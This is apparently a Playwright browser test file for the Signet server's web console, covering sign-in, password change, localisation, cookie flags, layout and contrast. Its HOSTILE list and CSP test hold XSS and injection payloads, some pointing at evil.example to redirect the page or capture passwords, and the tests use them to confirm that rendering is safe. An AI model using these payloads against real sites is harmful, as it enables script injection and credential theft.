import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { defaultConfig, type RunningServer, start } from '@signet/server'
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { chromiumPath, openBrowser } from './console-browser.ts'

const CHOSEN = 'correct horse battery'
const SIZES = [
  { width: 1280, height: 800 },
  { width: 768, height: 900 },
  { width: 390, height: 844 },
] as const

/** Names that would do something if any of them were taken for markup, for an attribute, a template, a link or a key. */
const HOSTILE = [
  '<script>window.executed = 1</script>',
  '<img src=x onerror="window.executed = 1">',
  '<svg onload="window.executed = 1"></svg>',
  '"><iframe srcdoc="<script>parent.executed = 1</script>">',
  `' autofocus onfocus='window.executed = 1`,
  '</title></style></textarea><script>window.executed = 1</script>',
  '<details open ontoggle="window.executed = 1"><a href="javascript:window.executed = 1">x</a>',
  '<style>@import "//evil.example/x.css"; body { display: none }</style>',
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><input name="password"><button>x</button></form>',
  '{{constructor.constructor("window.executed = 1")()}} #{window.executed = 1} `x`',
  '&lt;script&gt;window.executed = 1&lt;/script&gt; &#x3c;img&#x3e;',
  '\u202e<tpircs> desrever \u2066 \u200b\ufeff',
  '__proto__',
  'W'.repeat(100),
  '长'.repeat(100),
]

const skipped = chromiumPath === undefined ? ' (skipped: no chromium, chromium-browser or google-chrome on PATH)' : ''

describe.skipIf(chromiumPath === undefined)(`the console in a browser${skipped}`, () => {
  let browser: Browser
  let dir: string
  let server: RunningServer
  let page: Page
  /** What went wrong in the page or left it. */
  let trouble: string[]

  beforeAll(async () => {
    browser = await openBrowser()
  })
  afterAll(() => browser.close())

  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'signet-test-'))
    const config = {
      server: { port: 0 },
      timeline: { url: 'memory:' },
      log: { level: 'silent' },
      data: { dir },
    } as const
    server = await start(defaultConfig(config))
    page = await open()
  })
  afterEach(async () => {
    await page.context().close()
    await server.close()
    await rm(dir, { recursive: true })
  })

  async function open(locale = 'en-GB'): Promise<Page> {
    trouble = []
    const context = await browser.newContext({ locale, reducedMotion: 'reduce' })
    const opened = await context.newPage()
    opened.on('pageerror', (error) => trouble.push(`error: ${error.message}`))
    opened.on('dialog', (dialog) => {
      trouble.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    opened.on('request', (request) => {
      if (!request.url().startsWith(`${server.url}/`) && !request.url().startsWith('data:')) trouble.push(request.url())
    })
    opened.on('console', (message) => {
      // A browser reports every refused request by itself; the page shows those.
      if (message.type() === 'error' && !message.text().startsWith('Failed to load resource'))
        trouble.push(message.text())
    })
    await opened.goto(`${server.url}/console`)
    await opened.locator('#sign-in').waitFor()
    return opened
  }

  const text = (selector: string) => page.locator(selector).innerText()

  async function signIn(password: string): Promise<void> {
    await page.fill('#name', 'owner')
    await page.fill('#password', password)
    await page.click('#sign-in-form button')
  }

  async function enter(): Promise<void> {
    const { name, password } = server.firstRun!
    await server.im.consoleUsers.changePassword(name, password, CHOSEN)
    await signIn(CHOSEN)
    await page.locator('#applications').waitFor()
  }

  async function expectNoOverflow(what: string): Promise<void> {
    for (const size of SIZES) {
      await page.setViewportSize(size)
      const beyond = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
      expect([what, size.width, Math.max(0, beyond)]).toEqual([what, size.width, 0])
    }
  }

  it('[CON9] leads from the printed password to an empty list, by keyboard alone', async () => {
    const { keyboard } = page
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('name')
    await keyboard.type('owner')
    await keyboard.press('Tab')
    await keyboard.type(server.firstRun!.password)
    await keyboard.press('Enter')
    await page.locator('#change-password').waitFor()
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('new')
    expect(await page.locator('#current').isVisible()).toBe(false)
    expect(await page.locator('#change-cancel').isVisible()).toBe(false)
    await keyboard.type(CHOSEN)
    await keyboard.press('Tab')
    await keyboard.type(`${CHOSEN}!`)
    await keyboard.press('Enter')
    await expect.poll(() => text('#change-error')).toBe('The two new passwords are not the same.')
    await keyboard.type(CHOSEN)
    await keyboard.press('Enter')
    await page.locator('#applications-none').waitFor()
    expect(await text('#applications-none')).toContain('signet app create --name "My app"')
    expect(await text('#applications-done')).toBe('The password is changed.')
    expect(await server.im.consoleUsers.verifyPassword('owner', CHOSEN)).toMatchObject({ ok: true, mustChange: false })
    await keyboard.press('Shift+Tab')
    await keyboard.press('Shift+Tab')
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('sign-out')
    await keyboard.press('Enter')
    await page.locator('#sign-in').waitFor()
    expect(await page.context().cookies()).toEqual([])
    expect(trouble).toEqual([])
  })

  it('[CON9] asks for the one-time password again when the page was loaded anew in between', async () => {
    await signIn(server.firstRun!.password)
    await page.locator('#change-password').waitFor()
    await page.reload()
    await page.locator('#change-password').waitFor()
    await page.fill('#current', 'not it at all')
    await page.fill('#new', CHOSEN)
    await page.fill('#again', CHOSEN)
    await page.keyboard.press('Enter')
    await expect.poll(() => text('#change-error')).toBe('The current password is wrong.')
    await page.fill('#current', server.firstRun!.password)
    await page.keyboard.press('Enter')
    await page.locator('#applications').waitFor()
    expect(trouble).toEqual([])
  })

  it('says what is wrong: the password, too many of them, a server that is gone, a session that has ended', async () => {
    await signIn('not it at all')
    await expect.poll(() => text('#sign-in-error')).toBe('The name or the password is wrong.')
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('password')
    expect(await page.inputValue('#name')).toBe('owner')
    await page.click('#language')
    expect(await text('#sign-in-error')).toBe('用户名或密码错误。')
    await page.click('#language')
    await page.route('**/console/api/session', (route) =>
      route.fulfill({ status: 429, headers: { 'retry-after': '42' }, json: {} }),
    )
    await signIn('not it at all')
    await expect.poll(() => text('#sign-in-error')).toBe('Too many wrong passwords. Try again in 42 s.')
    await page.unroute('**/console/api/session')
    await enter()
    await page.route('**/console/api/applications', (route) => route.abort())
    await page.click('#refresh')
    await expect.poll(() => text('#applications-error')).toBe('The server cannot be reached. Is it running?')
    await page.unroute('**/console/api/applications')
    await server.im.consoleUsers.resetPassword('owner')
    await page.click('#refresh')
    await expect.poll(() => text('#sign-in-error')).toBe('Your session has ended. Sign in again.')
    expect(await page.locator('#applications-list').innerHTML()).toBe('')
    expect(trouble).toEqual([])
  })

  it('[CHK26] [CON11] shows hostile names as the text that they are', { timeout: 60_000 }, async () => {
    const { apps, keys } = server.im.accounts
    for (const name of HOSTILE) await keys.makeSecret((await apps.create({ name })).sdkAppId)
    await enter()
    await page
      .locator('.app')
      .nth(HOSTILE.length - 1)
      .waitFor()
    const shown = await page.locator('.app h2').allTextContents()
    expect(shown.toSorted()).toEqual(HOSTILE.toSorted())
    const elements = await page.locator('#applications-list *').evaluateAll((all) => all.map((one) => one.localName))
    const ours = ['article', 'bdi', 'code', 'dd', 'div', 'dl', 'dt', 'h2', 'h3', 'li', 'span', 'time', 'ul']
    expect([...new Set(elements)].toSorted()).toEqual(ours)
    await expectNoOverflow('hostile names')
    await page.click('#language')
    expect((await page.locator('.app h2').allTextContents()).toSorted()).toEqual(HOSTILE.toSorted())
    expect(await page.evaluate(() => 'executed' in window)).toBe(false)
    expect(trouble).toEqual([])
  })

  it('[CHK26] [CON11] would not run a script that got into it all the same', async () => {
    const refused = await page.evaluate(async () => {
      const blocked: string[] = []
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective))
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="data:," onerror="window.executed = 1"><p style="color: red">x</p><img src="https://evil.example/x">',
      )
      const script = document.createElement('script')
      script.textContent = 'window.executed = 1'
      document.body.append(script)
      await new Promise((resolve) => setTimeout(resolve, 200))
      return { blocked: [...new Set(blocked)].sort(), executed: 'executed' in window }
    })
    expect(refused).toEqual({
      blocked: ['img-src', 'script-src-attr', 'script-src-elem', 'style-src-attr'],
      executed: false,
    })
  })

  it('[CON5] keeps the session out of reach of scripts, and keeps no secret', async () => {
    await enter()
    const [cookie] = await page.context().cookies()
    expect(cookie).toMatchObject({ name: 'signet-console', httpOnly: true, sameSite: 'Strict', path: '/console' })
    await page.click('#language')
    const kept = await page.evaluate(() =>
      JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }]),
    )
    expect(kept).toBe('["",{"signet-console-language":"zh"},{}]')
    expect(page.url()).toBe(`${server.url}/console`)
  })

  it('speaks Chinese to whoever reads it, and remembers what was chosen', async () => {
    await page.context().close()
    page = await open('zh-CN')
    expect([await text('#sign-in-title'), await page.title()]).toEqual(['登录', 'Signet 控制台'])
    expect(await page.getAttribute('html', 'lang')).toBe('zh-CN')
    await page.click('#language')
    await page.reload()
    await page.locator('#sign-in').waitFor()
    expect(await text('#sign-in-title')).toBe('Sign in')
    expect(await page.getAttribute('html', 'lang')).toBe('en')
    expect(trouble).toEqual([])
  })

  it('notices when it comes back into view that another tab has signed out', async () => {
    await enter()
    const other = await page.context().newPage()
    await other.goto(`${server.url}/console`)
    await other.locator('#applications').waitFor()
    await other.click('#sign-out')
    await other.locator('#sign-in').waitFor()
    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')))
    await page.locator('#sign-in').waitFor()
    expect(trouble).toEqual([])
  })

  it('fits a desk and a phone in every state, with enough contrast in light and dark', async () => {
    const check = async (what: string): Promise<void> => {
      await expectNoOverflow(what)
      for (const colorScheme of ['light', 'dark'] as const) {
        await page.emulateMedia({ colorScheme })
        const faint = await page.evaluate(faintText)
        expect([what, colorScheme, faint]).toEqual([what, colorScheme, []])
      }
    }
    await check('sign in')
    await signIn(server.firstRun!.password)
    await page.locator('#change-password').waitFor()
    await page.keyboard.press('Enter')
    await check('one-time password')
    await page.fill('#new', CHOSEN)
    await page.fill('#again', CHOSEN)
    await page.keyboard.press('Enter')
    await page.locator('#applications-none').waitFor()
    await check('no application')
    const { apps, keys } = server.im.accounts
    const { sdkAppId } = await apps.create({ name: 'Shop' })
    const { keyId } = await keys.makeKeyPair(sdkAppId)
    await keys.retire(sdkAppId, keyId, { overlapMs: 3_600_000 })
    await keys.revoke(sdkAppId, (await keys.makeSecret(sdkAppId)).keyId)
    await apps.disable((await apps.create({ name: 'Empty' })).sdkAppId)
    await page.click('#refresh')
    await page.locator('.app').nth(1).waitFor()
    await check('a list')
    await page.click('#change-open')
    await check('change password')
    expect(trouble).toEqual([])
  })
})

/** Runs in the page: visible text whose contrast with what is behind it is under 4.5 : 1 (WCAG AA). */
function faintText(): string[] {
  const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true })!
  const channels = (color: string): number[] => {
    canvas.clearRect(0, 0, 1, 1)
    canvas.fillStyle = color
    canvas.fillRect(0, 0, 1, 1)
    return [...canvas.getImageData(0, 0, 1, 1).data]
  }
  const luminance = (color: string): number => {
    const [r, g, b] = channels(color)
      .map((value) => value / 255)
      .map((value) => (value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4))
    return 0.2126 * r! + 0.7152 * g! + 0.0722 * b!
  }
  const behind = (element: Element): string => {
    for (let at: Element | null = element; at !== null; at = at.parentElement) {
      const { backgroundColor } = getComputedStyle(at)
      if (channels(backgroundColor)[3] === 255) return backgroundColor
    }
    return 'white'
  }
  const faint: string[] = []
  for (const element of document.querySelectorAll('body *')) {
    const own = [...element.childNodes].some((node) => node.nodeType === 3 && node.textContent?.trim() !== '')
    if (!own || !element.checkVisibility()) continue
    const [a, b] = [luminance(getComputedStyle(element).color), luminance(behind(element))]
    const contrast = (Math.max(a!, b!) + 0.05) / (Math.min(a!, b!) + 0.05)
    if (contrast < 4.5) faint.push(`${element.localName} ${element.textContent} ${contrast.toFixed(2)}`)
  }
  return faint
}
